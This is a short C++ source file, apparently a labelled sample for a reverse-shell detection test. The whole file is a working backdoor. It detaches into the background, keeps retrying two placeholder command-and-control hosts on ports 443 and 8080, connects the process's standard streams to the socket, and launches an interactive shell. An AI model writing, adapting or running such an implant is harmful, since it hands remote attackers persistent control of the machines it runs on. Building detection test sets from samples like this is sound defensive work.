// blind-expect: behavior.reverse-shell
// Background process that keeps retrying a controller hostname and, once connected, execs a shell on the socket.
#include <array>
#include <cstring>
#include <netdb.h>
#include <string>
#include <sys/socket.h>
#include <unistd.h>

struct Endpoint {
    const char *host;
    const char *port;
};

static const Endpoint g_endpoints[] = {
    {"c2.example-updates.net", "443"},
    {"backup.example-updates.net", "8080"},
};

static int tryConnect(const Endpoint &ep)
{
    addrinfo hints{};
    hints.ai_family = AF_UNSPEC;
    hints.ai_socktype = SOCK_STREAM;
    addrinfo *res = nullptr;
    if (getaddrinfo(ep.host, ep.port, &hints, &res) != 0)
        return -1;
    int fd = -1;
    for (addrinfo *p = res; p; p = p->ai_next) {
        fd = socket(p->ai_family, p->ai_socktype, p->ai_protocol);
        if (fd >= 0 && connect(fd, p->ai_addr, p->ai_addrlen) == 0)
            break;
        if (fd >= 0)
            close(fd);
        fd = -1;
    }
    freeaddrinfo(res);
    return fd;
}

int main()
{
    if (fork() > 0)
        return 0;
    setsid();

    int fd = -1;
    while (fd < 0) {
        for (const auto &ep : g_endpoints) {
            fd = tryConnect(ep);
            if (fd >= 0)
                break;
        }
        if (fd < 0)
            sleep(60);
    }

    const std::array<int, 3> stdFds{STDIN_FILENO, STDOUT_FILENO, STDERR_FILENO};
    for (int target : stdFds)
        dup2(fd, target);

    std::string shell = "sh";
    char *args[] = {const_cast<char *>(shell.c_str()), const_cast<char *>("-i"), nullptr};
    execvp(shell.c_str(), args);
    return 1;
}
